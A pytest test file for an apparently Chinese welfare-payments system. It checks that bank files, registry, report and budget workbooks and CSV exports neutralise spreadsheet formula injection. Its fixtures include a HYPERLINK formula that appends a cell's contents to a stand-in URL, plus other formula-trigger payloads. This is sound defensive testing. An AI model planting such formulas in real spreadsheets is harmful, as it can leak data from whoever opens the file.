"""Formula injection (issue 16, item 1): every workbook and CSV the system writes keeps text as text.

Payloads typed into a name, an account holder, an address or a region name are written through every export and
read back: no cell of any workbook is a formula (no ``<f>`` element in the sheet XML, no hyperlink part), the text
comes back exactly as typed, and in CSV files a text cell that could start a formula is neutralised (OWASP) while
genuine numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from python_calamine import CalamineWorkbook

from minzheng.core import exports
from minzheng.core.testing.personas import COUNTY, TOWNSHIP_A
from minzheng.payments import bankfiles
from minzheng.payments.models import BankTemplate, FileFormat, RosterLine
from minzheng.payments.tests.factories import approved_cycle, approved_dibao
from minzheng.regions.models import Region
from minzheng.registry.excel import error_workbook, registry_export, registry_import
from minzheng.registry.models import Member, Relation
from minzheng.registry.services import HouseholdData, household_update, member_update
from minzheng.registry.validation import MemberData
from minzheng.reports.budget_excel import budgets_workbook
from minzheng.reports.definitions import FORMS, compute
from minzheng.reports.excel import table_xlsx
from minzheng.reports.periods import parse_period

HYPERLINK = '=HYPERLINK("http://x/?"&E2,"点击核对")'
PRINTABLE = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)"]
CONTROL = ["\t=1", "\r=1"]
PAYLOADS = PRINTABLE + CONTROL
#: in the poisoned cycle: the three payees' names and the three account holders
NAMES = (PRINTABLE[0], PRINTABLE[2], CONTROL[0])
HOLDERS = (PRINTABLE[1], PRINTABLE[3], CONTROL[1])


def formulas_in(content: bytes) -> list[str]:
    """Every formula (``<f>``) and every hyperlink relationship in an .xlsx, read from its XML."""
    found: list[str] = []
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = book.read(name).decode("utf-8")
                found += re.findall(r"<f[ >].*?</f>|<f/>", xml)
                found += re.findall(r"<hyperlink ", xml)
    return found


def texts_in(content: bytes) -> set[str]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return {
        cell
        for name in book.sheet_names
        for row in book.get_sheet_by_name(name).to_python()
        for cell in row
        if isinstance(cell, str)
    }


# —— the helper itself ————————————————————————————————————————————————————————————————————————————————


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_csv_text_cell_that_could_start_a_formula_is_quoted_and_neutralised(payload: str) -> None:
    line = exports.csv_line(["张三", payload])
    assert next(csv.reader(io.StringIO(line, newline=""))) == ["张三", "'" + payload]


def test_csv_numbers_stay_numbers_even_when_negative() -> None:
    line = exports.csv_line([7, Decimal("-12.50"), -3, "-12.50"])
    assert line == '7,-12.50,-3,"\'-12.50"\r\n'


def test_a_workbook_cannot_be_opened_with_string_guessing_switched_on(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="strings_to_formulas"):
        exports.workbook(tmp_path / "x.xlsx", strings_to_formulas=True)


def test_text_written_through_the_helper_is_text_in_the_workbook() -> None:
    out = io.BytesIO()
    book = exports.workbook(out, in_memory=True)
    sheet = book.add_worksheet()
    exports.write_cells(sheet, 0, [*PAYLOADS, "http://x/", Decimal("-5.00"), 3, date(2025, 1, 2)])
    sheet.write_row(1, 0, PAYLOADS)  # even xlsxwriter's own write_row: the options keep text as text
    book.close()
    content = out.getvalue()
    assert formulas_in(content) == []
    rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    assert rows[0][: len(PAYLOADS) + 3] == [*PAYLOADS, "http://x/", -5.0, 3.0]
    assert rows[1] == [*PAYLOADS, "", "", "", ""][: len(rows[1])]


# —— every export ———————————————————————————————————————————————————————————————————————————————————————


def _rename_head(personas: dict[str, Any], member: Member, name: str) -> None:
    member_update(
        actor=personas["township_a_clerk"],
        member=member,
        data=MemberData(
            name=name,
            id_number=member.id_number,
            relation=member.relation,
            phone=member.phone,
            hukou_status=member.hukou_status,
            work_capacity=member.work_capacity,
        ),
    )


@pytest.fixture
def poisoned(personas: dict[str, Any]) -> Any:
    """Three paid households whose head's name and account holder hold the payloads, in an approved cycle."""
    benefits = [approved_dibao(personas) for _payload in range(3)]
    for benefit, (name, holder) in zip(benefits[:2], [PRINTABLE[:2], PRINTABLE[2:]], strict=True):
        household = benefit.household
        _rename_head(personas, household.members.get(relation=Relation.HEAD), name)
        household_update(
            actor=personas["township_a_clerk"],
            household=household,
            data=HouseholdData(
                region_code=household.region_id,
                address=holder,
                hukou_type=household.hukou_type,
                phone=household.phone,
                bank_name="泸县农商银行",
                account_holder=holder,
                account_number=household.account_number,
            ),
        )
    cycle = approved_cycle(personas, date(2025, 4, 1))
    # control characters are refused by the registry today; a roster line copied before that may still hold them
    line = RosterLine.objects.filter(cycle=cycle, household=benefits[2].household_id)
    line.update(payee_name=CONTROL[0], account_holder=CONTROL[1])
    return cycle


def _export(personas: dict[str, Any], cycle: Any, template: BankTemplate) -> bytes:
    record = bankfiles.bank_file_export(actor=personas["township_a_clerk"], cycle=cycle, template=template)
    return (bankfiles.exports_dir() / record.stored_name).read_bytes()


@pytest.mark.django_db
def test_bank_files_of_every_template_keep_the_payloads_as_text(
    personas: dict[str, Any], poisoned: Any
) -> None:
    every_column = "\n".join(bankfiles.COLUMNS)
    bankfiles.templates_for(
        TOWNSHIP_A
    )  # the county's two defaults, then one of each format with every column
    bankfiles.template_save(
        actor=personas["county_admin"],
        region_code=COUNTY,
        name="全部列 Excel",
        file_format=FileFormat.XLSX,
        encoding="utf-8",
        columns_text=every_column,
        totals_row=True,
    )
    bankfiles.template_save(
        actor=personas["county_admin"],
        region_code=COUNTY,
        name="全部列 CSV",
        file_format=FileFormat.CSV,
        encoding="gb18030",
        columns_text=every_column,
        totals_row=True,
    )
    templates = bankfiles.templates_for(TOWNSHIP_A)
    assert {t.file_format for t in templates} == {FileFormat.XLSX, FileFormat.CSV} and len(templates) == 4
    for template in templates:
        content = _export(personas, poisoned, template)
        if template.file_format == FileFormat.XLSX:
            assert formulas_in(content) == [], template.name
            texts = texts_in(content)
            keys = {key for key, _h in template.columns}
            expected = {*NAMES} if "payee_name" in keys else set()
            expected |= {*HOLDERS} if "account_holder" in keys else set()
            assert expected and expected <= texts, template.name
            rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
            amount = next(i for i, (key, _h) in enumerate(template.columns) if key == "amount")
            assert all(isinstance(row[amount], float) for row in rows[1:])  # the bank's amounts stay numbers
            drill = bankfiles.drill_return(
                bankfiles.BankExport.objects.filter(template=template).latest("pk"), failures=1
            )
            assert formulas_in(drill) == []
        else:
            lines = list(csv.reader(io.StringIO(content.decode(template.encoding), newline="")))
            cells = {cell for line in lines for cell in line}
            assert {"'" + p for p in HOLDERS} <= cells, template.name
            assert not any(cell.startswith(exports.FORMULA_TRIGGERS) for cell in cells), template.name
            amount = next(i for i, (key, _h) in enumerate(template.columns) if key == "amount")
            assert all(Decimal(line[amount]) > 0 for line in lines[1:])  # numbers, not neutralised text


@pytest.mark.django_db
def test_the_registry_export_keeps_the_payloads_as_text(personas: dict[str, Any], poisoned: Any) -> None:
    out = io.BytesIO()
    registry_export(user=personas["township_a_clerk"], out=out)
    content = out.getvalue()
    assert formulas_in(content) == []
    assert set(PRINTABLE) <= texts_in(content)


@pytest.mark.django_db
def test_report_and_budget_workbooks_keep_the_payloads_as_text(personas: dict[str, Any]) -> None:
    table = compute(FORMS["dibao"], TOWNSHIP_A, parse_period("2025Q2"))
    for payload in PAYLOADS:
        content = table_xlsx(table, region_name=payload, preparer=payload, today=date(2025, 7, 1))
        assert formulas_in(content) == []
        assert {f"填报单位：{payload}", f"填表人：{payload}"} <= texts_in(content)
    # region names come from the statistics bureau's file; a hostile one must not become a formula either
    Region.objects.filter(code=TOWNSHIP_A).update(name=HYPERLINK)
    content = budgets_workbook(user=personas["county_admin"], year=2026)
    assert formulas_in(content) == []
    assert HYPERLINK in texts_in(content)


@pytest.mark.django_db
def test_the_import_error_workbook_keeps_the_payloads_as_text(personas: dict[str, Any]) -> None:
    header = "户编号,所属村代码,住址,户籍类型,姓名,公民身份号码,与户主关系\r\n"
    rows = "".join(f'1,"{p.replace(chr(34), chr(34) * 2)}",x,农村,x,{p[:3]},户主\r\n' for p in PRINTABLE)
    report = registry_import(
        actor=personas["township_a_clerk"], source=(header + rows).encode(), filename="x.csv", dry_run=True
    )
    assert not report.ok
    content = error_workbook(report)
    assert formulas_in(content) == []
    assert set(PRINTABLE) <= texts_in(content)


@pytest.mark.django_db
def test_the_reconciliation_and_change_list_workbooks_keep_the_payloads_as_text(
    personas: dict[str, Any], poisoned: Any
) -> None:
    from minzheng.payments import reconciliation
    from minzheng.reports.changes import change_list, change_list_xlsx

    first, last = date(2025, 4, 1), date(2025, 4, 1)
    rows = list(reconciliation.scope_figures(region_code=TOWNSHIP_A, first=first, last=last))
    assert rows
    content = reconciliation.differences_xlsx(rows, region_name=HYPERLINK, first=first, last=last)
    assert formulas_in(content) == []
    assert HYPERLINK in texts_in(content)
    changes = change_list(region=TOWNSHIP_A, program="dibao", month=date(2025, 4, 1))
    assert {row.name for row in changes} >= set(NAMES[:2])
    content = change_list_xlsx(
        user=personas["township_a_clerk"],
        rows=changes,
        region_code=TOWNSHIP_A,
        region_name=HYPERLINK,
        program="dibao",
        month=date(2025, 4, 1),
    )
    assert formulas_in(content) == []
    assert set(NAMES[:2]) | {HYPERLINK} <= texts_in(content)
